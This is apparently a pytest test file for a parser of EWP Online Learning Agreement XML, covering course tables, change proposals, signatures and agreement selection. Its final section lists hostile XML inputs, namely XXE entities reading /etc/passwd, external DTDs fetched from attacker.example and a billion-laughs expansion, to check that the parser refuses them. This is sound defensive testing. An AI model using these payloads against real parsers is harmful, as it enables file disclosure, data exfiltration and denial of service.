"""Reading EWP Online Learning Agreements: the effective tables (first version + approved changes), the pending
proposal kept apart, reasons in both spellings, signatures, choosing among several agreements, hostile XML.

`tests/data/domain/ewp-omobility-las-get-response-example.xml` and its `.xsd` are the example and schema of the
EWP Outgoing Mobility Learning Agreements API (stable-v1), copied byte for byte; MIT licence in
`ewp-LICENSE-MIT.txt` beside them.
"""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from app.services.la_ewp import LearningAgreementUnreadable, looks_like_xml, read_ewp_la

DOMAIN = Path(__file__).resolve().parent.parent / "data" / "domain"
EXAMPLE = DOMAIN / "ewp-omobility-las-get-response-example.xml"
NS = "https://github.com/erasmus-without-paper/ewp-specs-api-omobility-las/blob/stable-v1/endpoints/get-response.xsd"
PLUS_TWO = timezone(timedelta(hours=2))


def rows(components) -> list[tuple]:
    return [(c.code, c.title, c.ects, c.term, c.status, c.reason) for c in components]


def la(body: str, omobility: str = "m-1") -> str:
    return (f"<la><omobility-id>{omobility}</omobility-id><sending-hei><hei-id>uw.edu.pl</hei-id></sending-hei>"
            f"<receiving-hei><hei-id>unibo.it</hei-id></receiving-hei>"
            f"<student><given-names>Zofia</given-names><family-name>Łódzka</family-name></student>{body}</la>")


def response(*agreements: str, namespace: str = NS) -> bytes:
    body = "".join(agreements)
    return f'<omobility-las-get-response xmlns="{namespace}">{body}</omobility-las-get-response>'.encode()


def component(title: str, ects: str = "6", *, attributes: str = "", los_id: str = "", code: str = "",
              term: str = "Winter 2025/26", extra: str = "") -> str:
    return (f"<component{attributes}>" + (f"<los-id>{los_id}</los-id>" if los_id else "")
            + (f"<los-code>{code}</los-code>" if code else "") + f"<title>{title}</title>"
            + f"<academic-term-display-name>{term}</academic-term-display-name>"
            + f"<credit><scheme>ects</scheme><value>{ects}</value></credit>{extra}</component>")


SIGNED = ("<student-signature><timestamp>2025-09-01T10:00:00Z</timestamp></student-signature>"
          "<sending-hei-signature><signer-name>Anna Nowak</signer-name><signer-position>Coordinator</signer-position>"
          "<timestamp>2025-09-02T10:00:00Z</timestamp></sending-hei-signature>"
          "<receiving-hei-signature><signer-name>Marco Rossi</signer-name>"
          "<timestamp>2025-09-03T10:00:00Z</timestamp></receiving-hei-signature>")


def versions(first_a: str, changes_a: str = "", *, first_b: str = "", changes_c: str = "") -> bytes:
    """A response with one agreement: a first version (tables A, B) and, when given, approved changes (A, C)."""
    first = (f"<first-version><components-studied>{first_a}</components-studied>"
             f"<components-recognized>{first_b}</components-recognized>{SIGNED}</first-version>")
    approved = (f"<approved-changes><components-studied>{changes_a}</components-studied>"
                f"<virtual-components>{changes_c}</virtual-components>{SIGNED}</approved-changes>"
                if changes_a or changes_c else "")
    return response(la(first + approved))


# -- the EWP example -------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def example():
    return read_ewp_la(EXAMPLE.read_bytes())


def test_the_example_effective_tables_are_the_first_version_with_the_approved_changes(example) -> None:
    assert rows(example.table("A")) == [
        ("", "Introductory calculus", Decimal(9), "2/2", "", ""),
        ("KR502B", "Algebra", Decimal(6), "2/2", "inserted", "extending-mobility"),
    ]
    assert rows(example.table("B")) == [
        ("", "Calculus", Decimal(5), "2/2", "", ""),
        ("", "Algebra with Geometry", Decimal(4), "2/2", "", ""),
    ]
    assert example.table("C") == ()
    assert [c.los_id for c in example.table("B")] == ["CR/8f0d7dad-2bb6-d401-48c3-c7e0baf03efb",
                                                      "CR/7fdg347d-h45g-h445-02md-mdkd02kch2h5"]
    assert sum(c.ects for c in example.table("A")) == 15 and sum(c.ects for c in example.table("B")) == 9
    assert example.version == "approved-changes" and example.warnings == ()


def test_the_example_pending_proposal_is_returned_apart_and_not_applied(example) -> None:
    pending = example.pending
    assert pending.kind == "changes-proposal" and pending.id == "59B15BAF222F868493C167125FA32452E946"
    assert rows(pending.components) == [
        ("KR630", "Elementary Set Theory", Decimal(6), "2/2", "inserted", "substituting-deleted"),
        ("", "Introductory calculus", Decimal(9), "2/2", "deleted", "language-mismatch"),
    ]
    assert pending.student.family_name == "Karamazov" and pending.student.given_names == ""
    assert [s.party for s in pending.signatures] == ["student", "sending-hei"]  # the receiving HEI has not signed
    titles = [c.title for c in example.components]
    assert "Elementary Set Theory" not in titles and "Introductory calculus" in titles


def test_the_example_header(example) -> None:
    assert example.omobility_id == "c442c289-5541-4cae-9edb-8ad83e133613"
    assert (example.sending_hei, example.receiving_hei) == ("uio.no", "uw.edu.pl")
    assert example.sending_ounit == "Faculty of Mathematics and Natural Sciences"
    assert example.receiving_ounit == "Faculty of Mathematics, Informatics and Mechanics"
    assert example.receiving_hei_name == ""  # the example does not give it
    assert example.academic_year == "2018/2019"
    student = example.student
    assert (student.given_names, student.family_name, student.birth_date) == ("Ivan Petrovich", "Sidorov",
                                                                              date(1997, 5, 5))
    assert (example.mobility_start, example.mobility_end) == ("2019-02", "2019-06")


def test_the_example_signatures_of_the_approved_version(example) -> None:
    assert [(s.party, s.name, s.position, s.at) for s in example.signatures] == [
        ("student", "Ivan Petrovich Sidorov", "", datetime(2019, 3, 2, 12, 31, 38, tzinfo=PLUS_TWO)),
        ("sending-hei", "Anders Bardal", "Erasmus senior coordinator", datetime(2019, 3, 3, 10, 11, 58,
                                                                                tzinfo=PLUS_TWO)),
        ("receiving-hei", "Paweł Tomasz Kowalski", "Mobility coordinator", datetime(2019, 3, 3, 12, 54,
                                                                                    tzinfo=PLUS_TWO)),
    ]
    assert example.signatures[2].app == "USOS" and example.signatures[1].email == "anders.bardal@example.com"
    first = example.first_version.signatures
    assert [(s.party, s.at.date()) for s in first] == [("student", date(2018, 11, 12)),
                                                       ("sending-hei", date(2018, 11, 13)),
                                                       ("receiving-hei", date(2018, 11, 14))]


def test_the_reason_spelling_of_the_scenario_examples_is_read_too() -> None:
    data = EXAMPLE.read_bytes().replace(b'reason-code="extending-mobility"', b'reason="extending-mobility"')
    assert b'reason="extending-mobility"' in data
    [_, inserted] = read_ewp_la(data).table("A")
    assert (inserted.title, inserted.reason_code, inserted.reason) == ("Algebra", "extending-mobility",
                                                                      "extending-mobility")


def test_reason_text_goes_with_the_code() -> None:
    change = component("Big Data", attributes=' status="inserted" reason-code="extending-mobility" '
                                              'reason-text="One more month"')
    [_, inserted] = read_ewp_la(versions(component("Logic"), change)).table("A")
    assert inserted.reason == "extending-mobility: One more month"


# -- the effective-table rule ----------------------------------------------------------------------------------
def test_deleted_components_are_found_by_los_id_then_los_code_then_title() -> None:
    first = (component("Same title", los_id="LOS-1") + component("Same title", los_id="LOS-2")
             + component("Coded", code="C-7") + component("Plain Title"))
    changes = (component("Renamed by hand", attributes=' status="deleted" reason-code="not-available"', los_id="LOS-2")
               + component("whatever", attributes=' status="deleted"', code="c-7")
               + component("  plain   TITLE ", attributes=' status="deleted" reason="timetable-conflict"'))
    agreement = read_ewp_la(versions(first, changes))
    assert [(c.los_id, c.title) for c in agreement.table("A")] == [("LOS-1", "Same title")]
    assert agreement.warnings == ()


def test_a_deletion_never_takes_a_component_with_another_los_id_and_says_so() -> None:
    changes = component("Same title", attributes=' status="deleted"', los_id="LOS-9")
    agreement = read_ewp_la(versions(component("Same title", los_id="LOS-1"), changes))
    assert [c.title for c in agreement.table("A")] == ["Same title"]
    assert len(agreement.warnings) == 1 and "does not hold" in agreement.warnings[0].render()


def test_among_equal_titles_the_same_term_and_credits_are_deleted() -> None:
    first = component("Seminar", "3", term="Winter") + component("Seminar", "5", term="Summer")
    changes = component("Seminar", "5", attributes=' status="deleted"', term="Summer")
    assert [(c.ects, c.term) for c in read_ewp_la(versions(first, changes)).table("A")] == [(Decimal(3), "Winter")]


def test_changes_apply_in_order_inserted_components_can_be_deleted_later_in_the_list() -> None:
    changes = (component("Databases", attributes=' status="inserted"')
               + component("Databases", attributes=' status="deleted"')
               + component("Networks", attributes=' status="inserted"'))
    agreement = read_ewp_la(versions(component("Logic"), changes))
    assert [(c.title, c.status) for c in agreement.table("A")] == [("Logic", ""), ("Networks", "inserted")]


def test_approved_changes_are_one_list_against_the_first_version_as_in_the_specification_scenario() -> None:
    """The EWP example scenario (step 12): two replacements and a virtual component, `reason` spelling, terms by
    display name; Table B untouched."""
    first = (component("Advanced Logics for Computer Scientists") + component("Big Data Mining and Processing")
             + component("Advanced Functional Programming"))
    changes = (component("Advanced Logics for Computer Scientists", attributes=' status="deleted" '
                                                                               'reason="timetable-conflict"')
               + component("Computational Social Choice Theory", attributes=' status="inserted" '
                                                                            'reason="substituting-deleted"')
               + component("Advanced Functional Programming", attributes=' status="deleted" '
                                                                         'reason="language-mismatch"')
               + component("Artificial Intelligence and Expert Systems", attributes=' status="inserted" '
                                                                                    'reason="substituting-deleted"'))
    virtual = ('<component status="inserted" reason="adding-virtual-component">'
               "<title>Aspect oriented programming use cases</title>"
               "<short-description>Online course and online lectures.</short-description>"
               "<credit><scheme>ECTS</scheme><value>2,5</value></credit></component>")
    data = versions(first, changes, first_b=component("Analiza matematyczna II", "10"), changes_c=virtual)
    agreement = read_ewp_la(data)
    assert [(c.title, c.reason, c.term) for c in agreement.table("A")] == [
        ("Big Data Mining and Processing", "", "Winter 2025/26"),
        ("Computational Social Choice Theory", "substituting-deleted", "Winter 2025/26"),
        ("Artificial Intelligence and Expert Systems", "substituting-deleted", "Winter 2025/26"),
    ]
    assert [(c.title, c.ects) for c in agreement.table("B")] == [("Analiza matematyczna II", Decimal(10))]
    [virtual_component] = agreement.table("C")
    assert (virtual_component.title, virtual_component.ects, virtual_component.short_description,
            virtual_component.status) == ("Aspect oriented programming use cases", Decimal("2.5"),
                                          "Online course and online lectures.", "inserted")


def test_a_change_without_status_is_ignored_with_a_warning() -> None:
    agreement = read_ewp_la(versions(component("Logic"), component("Mystery")))
    assert [c.title for c in agreement.table("A")] == ["Logic"]
    assert "without saying whether" in agreement.warnings[0].render()


def test_recognition_conditions_and_bad_credits() -> None:
    b = component("Analiza", "abc", extra="<recognition-conditions>Pass the oral exam</recognition-conditions>")
    agreement = read_ewp_la(versions(component("Logic"), first_b=b))
    [recognised] = agreement.table("B")
    assert (recognised.recognition_conditions, recognised.ects) == ("Pass the oral exam", None)
    assert any("not a number of credits" in w.render() for w in agreement.warnings)


def test_without_a_first_version_the_tables_are_empty_and_the_proposal_is_shown() -> None:
    proposal = ('<changes-proposal id="P-1"><components-studied>' + component("Logic")
                + "</components-studied></changes-proposal>")
    agreement = read_ewp_la(response(la(proposal)))
    assert agreement.components == () and agreement.version == "" and agreement.signatures == ()
    assert [c.title for c in agreement.pending.components] == ["Logic"]
    assert any("No version" in w.render() for w in agreement.warnings)


def test_another_namespace_or_none_is_read_by_element_names() -> None:
    body = la("<first-version><components-studied>" + component("Logic") + "</components-studied></first-version>")
    plain = read_ewp_la(response(body, namespace="").replace(b' xmlns=""', b""))
    assert [c.title for c in plain.table("A")] == ["Logic"] and plain.warnings == ()
    other = read_ewp_la(response(body, namespace="urn:example:las-v2"))
    assert [c.title for c in other.table("A")] == ["Logic"]
    assert "urn:example:las-v2" in other.warnings[0].render()


# -- choosing one agreement ------------------------------------------------------------------------------------
def test_several_agreements_are_refused_unless_one_is_chosen() -> None:
    data = response(la("", "m-1"), la("<first-version><components-studied>" + component("Logic")
                                      + "</components-studied></first-version>", "m-2"))
    with pytest.raises(LearningAgreementUnreadable) as refused:
        read_ewp_la(data)
    assert "2 Learning Agreements" in str(refused.value) and "m-1, m-2" in str(refused.value)
    chosen = read_ewp_la(data, "m-2")
    assert chosen.omobility_id == "m-2" and [c.title for c in chosen.table("A")] == ["Logic"]
    with pytest.raises(LearningAgreementUnreadable, match="no Learning Agreement of mobility m-3; it holds: m-1, m-2"):
        read_ewp_la(data, "m-3")
    assert read_ewp_la(EXAMPLE.read_bytes(), "c442c289-5541-4cae-9edb-8ad83e133613").omobility_id
    assert read_ewp_la(la("", "alone").encode()).omobility_id == "alone"  # a lone `la` element is one agreement


def test_an_empty_response_and_other_documents_are_refused() -> None:
    with pytest.raises(LearningAgreementUnreadable, match="holds no Learning Agreement"):
        read_ewp_la(response())
    with pytest.raises(LearningAgreementUnreadable, match="not an EWP Learning Agreement.*elmo"):
        read_ewp_la(b'<elmo xmlns="https://github.com/emrex-eu/elmo-schemas/tree/v1"/>')


# -- hostile and broken XML ------------------------------------------------------------------------------------
HOSTILE = [
    b'<?xml version="1.0"?><!DOCTYPE la [<!ENTITY x SYSTEM "file:///etc/passwd">]><la><omobility-id>&x;'
    b"</omobility-id></la>",
    b'<!DOCTYPE la [<!ENTITY x SYSTEM "http://attacker.example/x">]><la>&x;</la>',
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b']><omobility-las-get-response xmlns="' + NS.encode() + b'"><la>&lol9;</la></omobility-las-get-response>',
    b'<!-- a comment first --><!DOCTYPE la [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><la/>',
]


@pytest.mark.parametrize("data", HOSTILE)
def test_document_type_declarations_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(LearningAgreementUnreadable) as refused:
        read_ewp_la(data)
    message = str(refused.value)
    assert "DOCTYPE" in message and "EWP" in message and "ELMO" not in message
    assert "root:" not in message and "lol" not in message


@pytest.mark.parametrize("data, words", [
    (b"", "empty"),
    (b"<omobility-las-get-response><la>", "not well-formed XML"),
    (b"<la>" + b"x" * 10_000_001 + b"</la>", "too large to be a Learning Agreement"),
])
def test_broken_documents_are_refused_with_a_reason(data: bytes, words: str) -> None:
    with pytest.raises(LearningAgreementUnreadable, match=words):
        read_ewp_la(data)


def test_looks_like_xml() -> None:
    assert looks_like_xml(EXAMPLE.read_bytes())
    assert looks_like_xml(b"\xef\xbb\xbf  <?xml version='1.0'?><la/>")
    assert looks_like_xml("<la/>".encode("utf-16"))
    assert not looks_like_xml(b"table;title\nA;Logic\n")
    assert not looks_like_xml(b"PK\x03\x04")
